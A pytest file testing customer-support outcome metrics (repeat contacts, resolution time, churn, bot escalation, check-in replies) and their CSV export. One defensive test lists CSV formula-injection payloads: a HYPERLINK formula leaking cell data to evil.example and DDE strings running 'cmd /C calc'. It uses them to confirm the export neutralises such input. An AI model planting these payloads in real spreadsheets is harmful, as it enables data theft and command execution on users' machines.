"""Outcome metrics on small hand-built histories; every expected figure is worked out by hand in the comments."""
from __future__ import annotations

from datetime import datetime, timedelta, timezone

import pytest

from followup import outcomes as oc
from followup.outcomes import (
    CaseRec,
    CheckinRec,
    ChurnRec,
    ContactRec,
    History,
    InteractionRec,
    ReplyRec,
    Window,
    compute_outcomes,
    csv_rows,
    percentile,
)


def T(day: int, hour: float = 10, month: int = 11) -> datetime:
    return datetime(2026, month, day, tzinfo=timezone.utc) + timedelta(hours=hour)


WINDOW = Window(start=T(1, 0), end=T(15, 0), as_of=T(20, 0))


def I(id_, customer, day, hour=10, *, case=None, month=11, **kw) -> InteractionRec:  # noqa: E743
    kw.setdefault("journey_stage", "billing")
    kw.setdefault("category", "double_charge")
    kw.setdefault("team", "billing-emea")
    return InteractionRec(id=id_, case_id=case or f"case_{id_}", customer_id=customer, ended_at=T(day, hour, month),
                          **kw)


def test_percentile_interpolates_between_ranks():
    assert percentile([], 50) is None
    assert percentile([7], 90) == 7
    assert percentile([1, 24, 49, 74], 50) == 36.5          # (24 + 49) / 2
    assert percentile([1, 24, 49, 74], 90) == pytest.approx(66.5)  # rank 2.7: 49 + 0.7 * 25


def test_repeat_contacts_same_customer_and_category_within_7_days():
    interactions = [
        I("a1", "cus_a", 2), I("a2", "cus_a", 5),            # a2 repeats a1 (3 days)
        I("a3", "cus_a", 14),                                 # 9 days after a2: not a repeat
        I("a4", "cus_a", 6, category="refund"),               # another category: not a repeat
        I("b0", "cus_b", 30, month=10),                       # before the window: only looked back at
        I("c1", "cus_c", 8, 9, journey_stage="technical", category="outage", team="tech"),
        I("c2", "cus_c", 8, 15, journey_stage="technical", category="outage", team="tech"),  # repeat (6 h)
        I("d1", "cus_d", 4, journey_stage="onboarding", category=None, team="tech"),
        I("d2", "cus_d", 5, journey_stage="onboarding", category=None, team="tech"),  # no category: never a repeat
    ]
    events = [ContactRec("cus_b", T(3, 9), category="double_charge", journey_stage="billing", team="billing-emea")]
    result = oc.repeat_contacts(oc.contacts_from(interactions, events), WINDOW)
    # billing: a1 a2 a3 a4 + b's event = 5 contacts; repeats a2 and b's event (4 days after b0) = 2
    assert result["by_journey_stage"] == [
        {"journey_stage": "billing", "contacts": 5, "repeats": 2, "rate": 0.4},
        {"journey_stage": "onboarding", "contacts": 2, "repeats": 0, "rate": 0.0},
        {"journey_stage": "technical", "contacts": 2, "repeats": 1, "rate": 0.5}]
    assert result["total"] == {"contacts": 9, "repeats": 3, "rate": 0.3333}
    only_tech = oc.repeat_contacts(oc.contacts_from(interactions, events),
                                   Window(WINDOW.start, WINDOW.end, WINDOW.as_of, team="tech"))
    assert only_tech["total"] == {"contacts": 4, "repeats": 1, "rate": 0.25}


def test_time_to_meaningful_resolution():
    interactions = [
        I("i1", "c1", 2, 10.5, case="k1", started_at=T(2, 10)),    # confirmed by the customer Nov 3 10:00 → 24 h
        I("i2", "c2", 3, 9, case="k2", started_at=T(3, 8)),        # closed 09:00, stayed closed → 1 h
        I("i3", "c3", 4, 11, case="k3", started_at=T(4, 10)),      # reopened by a reply Nov 5 11:00 …
        I("i4", "c4", 5, 11, case="k4", started_at=T(5, 10)),      # came back Nov 8 (new interaction) …
        I("i5", "c4", 8, 12, case="k4", started_at=T(8, 10)),      # … closed Nov 8 12:00 and stayed → 74 h
        I("i6", "c6", 14, 11, case="k6", started_at=T(14, 10)),    # closed Nov 14: 7 days not over by Nov 20
        I("i7", "c7", 20, 10, case="k7", month=10),                # first contact before the window
    ]
    cases = [CaseRec("k1"), CaseRec("k2"), CaseRec("k3", closed_at=T(6, 11), reopened_at=T(5, 11)),
             CaseRec("k4"), CaseRec("k6"), CaseRec("k7")]
    replies = [ReplyRec("r1", T(3, 10), "resolved", case_id="k1", checkin_id="x1"),
               ReplyRec("r3", T(5, 11), "reopen", case_id="k3", checkin_id="x3", reopened=True)]
    result = oc.time_to_resolution(interactions, cases, replies, WINDOW)
    # k3: closed Nov 4 11:00 but reopened within 7 days; agent closed it Nov 6 11:00 and it stayed → 49 h
    # hours: 24, 1, 49, 74 → median 36.5, p90 66.5
    assert result == {"episodes": 5, "resolved": 4, "confirmed_by_customer": 1, "stayed_closed": 3,
                      "unresolved": 1, "median_hours": 36.5, "p90_hours": 66.5}


def test_churn_after_friction_followed_up_vs_control():
    window = Window(start=T(1, 0), end=T(15, 0), as_of=T(20, 0, month=12))
    auto = "automated_checkin"
    interactions = [
        I("e1", "cus1", 2, triage_decision=auto, important=True),                 # churns Nov 20: ≤30 d and ≤90 d
        I("e2", "cus2", 3, triage_decision=auto, emotional_load=0.8),             # never churns; 90 d still open
        I("e3", "cus3", 4, triage_decision=auto, held_out=True, important=True),  # churns Dec 10: 36 d → 90 d only
        I("e4", "cus4", 5, triage_decision=auto, held_out=True, emotional_load=0.9),  # churns Nov 10
        I("e5", "cus5", 5, triage_decision=auto, held_out=True, emotional_load=0.3),  # not friction-heavy
        I("e6", "cus6", 6, triage_decision="human_callback", important=True),     # churned before: not counted
        I("e7", "cus1", 10, triage_decision=auto, held_out=True, important=True),  # cus1 counts once (from e1)
        I("e8", "cus7", 7, triage_decision="none", emotional_load=0.75),          # no follow-up decision: no group
        I("e9", "cus8", 25, month=10, triage_decision=auto, important=True),      # before the window
    ]
    churns = [ChurnRec("cus1", T(20)), ChurnRec("cus3", T(10, month=12)), ChurnRec("cus4", T(10)),
              ChurnRec("cus6", T(30, month=10)), ChurnRec("cus5", T(6))]
    result = oc.churn_after_friction(interactions, churns, window, high_threshold=0.7)
    assert result["episodes"] == 5
    assert result["groups"]["followed_up"] == {"n": 2, "churned_30d": 1, "pending_30d": 0, "churned_90d": 1,
                                               "pending_90d": 1, "rate_30d": 0.5, "rate_90d": 0.5}
    assert result["groups"]["control"] == {"n": 2, "churned_30d": 1, "pending_30d": 0, "churned_90d": 2,
                                           "pending_90d": 0, "rate_30d": 0.5, "rate_90d": 1.0}
    assert result["groups"]["human_callback"] == {"n": 1, "churned_30d": 0, "pending_30d": 0, "churned_90d": 0,
                                                  "pending_90d": 1, "rate_30d": 0.0, "rate_90d": 0.0}


def test_bot_to_human_escalation_per_stage():
    interactions = [
        I("b1", "c", 2, channel="chat", escalated_from_bot=True), I("b2", "c", 3, channel="voice",
                                                                    escalated_from_bot=True),
        I("b3", "c", 4, channel="bot"), I("b4", "c", 5, channel="bot"),
        I("b5", "c", 6, channel="voice"),                                    # never saw the bot: not counted
        I("b6", "c", 7, channel="bot", journey_stage="delivery"),
        I("b7", "c", 8, channel="chat", escalated_from_bot=True, journey_stage="technical"),
        I("b8", "c", 20, channel="bot", month=10),                           # outside the window
    ]
    result = oc.bot_escalation(interactions, WINDOW)
    assert result["by_journey_stage"] == [
        {"journey_stage": "billing", "bot_started": 4, "escalated": 2, "rate": 0.5},
        {"journey_stage": "delivery", "bot_started": 1, "escalated": 0, "rate": 0.0},
        {"journey_stage": "technical", "bot_started": 1, "escalated": 1, "rate": 1.0}]
    assert result["total"] == {"bot_started": 6, "escalated": 3, "rate": 0.5}


def test_checkins_replies_and_reopen_latency():
    checkins = [CheckinRec(f"ck{n}", f"k{n}", T(day)) for n, day in ((1, 2), (2, 3), (3, 4), (4, 5), (6, 6))]
    checkins.append(CheckinRec("ck5", "k5", T(30, month=10)))              # sent before the window
    replies = [
        ReplyRec("r1", T(2, 12), "resolved", checkin_id="ck1", case_id="k1"),
        ReplyRec("r1b", T(2, 13), "reopen", checkin_id="ck1", case_id="k1", reopened=True,
                 routed_at=T(2, 13) + timedelta(seconds=2)),                # not ck1's first reply
        ReplyRec("r2", T(3, 12), "reopen", checkin_id="ck2", case_id="k2", reopened=True,
                 routed_at=T(3, 12) + timedelta(seconds=10)),
        ReplyRec("r3", T(4, 12), "ack", checkin_id="ck3", case_id="k3"),
        ReplyRec("r5", T(31, 12, month=10), "resolved", checkin_id="ck5", case_id="k5"),
        ReplyRec("r6", T(6, 12), "opt_out", checkin_id="ck6", case_id="k6"),
        ReplyRec("r7", T(7, 12), "reopen", checkin_id="ck7", case_id="k7", reopened=True,
                 routed_at=T(7, 12) + timedelta(seconds=4)),
        ReplyRec("r8", T(8, 12), "reopen", checkin_id="ck8", case_id="k8", reopened=True),  # never routed
        ReplyRec("u1", T(9, 12), "reopen"), ReplyRec("u2", T(10, 12), "ack"),
        ReplyRec("u3", T(20, 12, month=10), "ack"),                         # unmatched, outside the window
    ]
    # sent: ck1 ck2 ck3 ck4 ck6 = 5; replied 4 (ck4 never); first replies: resolved, reopen, ack, opt_out
    funnel = oc.checkin_funnel(checkins, replies, WINDOW)
    assert {k: v for k, v in funnel.items() if k != "by_channel"} == {
        "sent": 5, "replied": 4, "reply_rate": 0.8, "resolved": 1, "resolved_rate": 0.25, "reopen": 1,
        "reopen_rate": 0.25, "ack": 1, "opt_out": 1}
    # routed reopens in the window: 2 s, 10 s, 4 s → median 4, p90 = 4 + 0.8 * 6 = 8.8
    assert oc.reopen_latency(replies, WINDOW) == {"n": 3, "median_seconds": 4.0, "p90_seconds": 8.8}
    assert oc.unmatched_replies(replies, WINDOW) == 2


def test_compute_outcomes_has_every_metric_its_definition_and_a_csv():
    stats = {"per_agent": {"ag_2": {"granted": 1, "deferred": 0, "escalated": 0, "refused": 0, "minutes_on_break": 5,
                                    "minutes_above_threshold": 12.5},
                           "ag_1": {"granted": 2, "deferred": 1, "escalated": 1, "refused": 0, "minutes_on_break": 17,
                                    "minutes_above_threshold": 40}},
             "totals": {"granted": 3, "deferred": 1, "escalated": 1, "refused": 0}}
    history = History(interactions=[I("a1", "cus_a", 2), I("a2", "cus_a", 5)], breaks=stats)
    report = compute_outcomes(history, WINDOW)
    assert set(report["definitions"]) >= {"repeat_contacts", "time_to_resolution", "churn_after_friction",
                                          "bot_escalation", "checkins", "reopen_latency", "breaks"}
    assert [row["agent_id"] for row in report["breaks"]["per_agent"]] == ["ag_1", "ag_2"]
    assert report["breaks"]["per_agent"][0]["minutes_above_threshold"] == 40
    rows = csv_rows(report)
    assert rows[0] == ["metric", "group", "measure", "value"]
    assert ["repeat_contacts", "billing", "rate", 0.5] in rows
    assert ["breaks", "ag_2", "minutes_above_threshold", 12.5] in rows
    assert ["time_to_resolution", "all", "median_hours", ""] in rows


FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "+1+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
FORMULA_START = tuple("=+-@\t\r")


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_cells_from_crm_text_never_start_a_formula(formula):
    """Issue 11: journey stages and agent ids come from CRM events; a spreadsheet must read them as text."""
    stats = {"per_agent": {formula: {"granted": 1, "minutes_above_threshold": -0.5}}, "totals": {"granted": 1}}
    history = History(interactions=[I("a1", "cus_a", 2, journey_stage=formula), I("a2", "cus_a", 5)], breaks=stats)
    rows = csv_rows(compute_outcomes(history, WINDOW))
    groups = {row[1] for row in rows}
    assert formula not in groups and "'" + formula in groups
    assert ["breaks", "'" + formula, "minutes_above_threshold", -0.5] in rows  # a negative number stays a number
    assert not [cell for row in rows for cell in row if isinstance(cell, str) and cell.startswith(FORMULA_START)]


def test_csv_keeps_ordinary_text_and_numbers_as_they_are():
    assert oc.spreadsheet_cell("billing") == "billing" and oc.spreadsheet_cell("ag_1") == "ag_1"
    assert oc.spreadsheet_cell(-0.25) == -0.25 and oc.spreadsheet_cell(0) == 0 and oc.spreadsheet_cell("") == ""
    assert oc.spreadsheet_cell("-1") == "'-1"  # text that only looks like a number came from outside: quoted


def test_reply_rate_and_answer_mix_per_channel():
    """A manager sees which channel customers answer: every channel's funnel, SMS, email and WhatsApp always shown."""
    checkins = [CheckinRec("s1", "k1", T(2)), CheckinRec("s2", "k2", T(3)),
                CheckinRec("w1", "k3", T(4), channel="whatsapp"), CheckinRec("w2", "k4", T(5), channel="whatsapp"),
                CheckinRec("w3", "k5", T(6), channel="whatsapp")]
    replies = [ReplyRec("r1", T(2, 12), "reopen", checkin_id="s1"),
               ReplyRec("r2", T(4, 12), "resolved", checkin_id="w1"), ReplyRec("r3", T(5, 12), "resolved", checkin_id="w2"),
               ReplyRec("r4", T(6, 12), "reopen", checkin_id="w3")]
    by_channel = {row["channel"]: row for row in oc.checkin_funnel(checkins, replies, WINDOW)["by_channel"]}
    assert list(by_channel) == ["sms", "email", "whatsapp"]
    assert {k: by_channel["sms"][k] for k in ("sent", "replied", "reply_rate", "reopen_rate")} == \
        {"sent": 2, "replied": 1, "reply_rate": 0.5, "reopen_rate": 1.0}
    assert by_channel["email"] == {"channel": "email", "sent": 0, "replied": 0, "reply_rate": None, "resolved": 0,
                                   "resolved_rate": None, "reopen": 0, "reopen_rate": None, "ack": 0, "opt_out": 0}
    assert {k: by_channel["whatsapp"][k] for k in ("sent", "reply_rate", "resolved_rate", "reopen_rate")} == \
        {"sent": 3, "reply_rate": 1.0, "resolved_rate": 0.6667, "reopen_rate": 0.3333}
    rows = oc.csv_rows(oc.compute_outcomes(oc.History(checkins=checkins, replies=replies), WINDOW))
    assert ["checkins", "whatsapp", "reply_rate", 1.0] in rows and ["checkins", "email", "reply_rate", ""] in rows
